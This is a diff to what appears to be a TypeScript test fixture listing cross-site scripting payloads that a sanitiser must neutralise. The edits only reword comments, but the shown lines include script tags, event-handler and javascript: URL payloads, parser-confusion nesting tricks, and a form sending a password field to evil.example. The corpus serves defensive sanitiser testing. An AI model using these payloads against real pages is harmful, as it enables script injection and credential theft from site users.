@@ -1,4 +1,4 @@
-/** Ways in which markup has run code in somebody's page. None of them may leave the sanitiser alive. */
+/** Ways in which markup has run code in somebody's page. None may survive the sanitiser. */
 export const xssCorpus: readonly string[] = [
   // Scripts, and everything that loads one.
   '<script>alert(1)</script>',
@@ -67,7 +67,7 @@ export const xssCorpus: readonly string[] = [
   '![x" onerror="alert(1)](x)',
   '[text](https://example.com "x\\" onmouseover=\\"alert(1)")',
   '[x]: javascript:alert(1)\n\n[x]',
-  // Pictures, formulas and styles that carry code.
+  // Pictures, formulas and styles that contain code.
   '<svg onload=alert(1)></svg>',
   '<svg><script>alert(1)</script></svg>',
   '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
@@ -87,7 +87,7 @@ export const xssCorpus: readonly string[] = [
   '<form action="https://evil.example"><input name=password><button>Go</button></form>',
   '<button formaction="javascript:alert(1)">Go</button>',
   '<isindex type=image src=1 onerror=alert(1)>',
-  // Nesting that a parser reads one way and a browser another.
+  // Nesting that a parser reads differently from a browser.
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
   '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
   '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
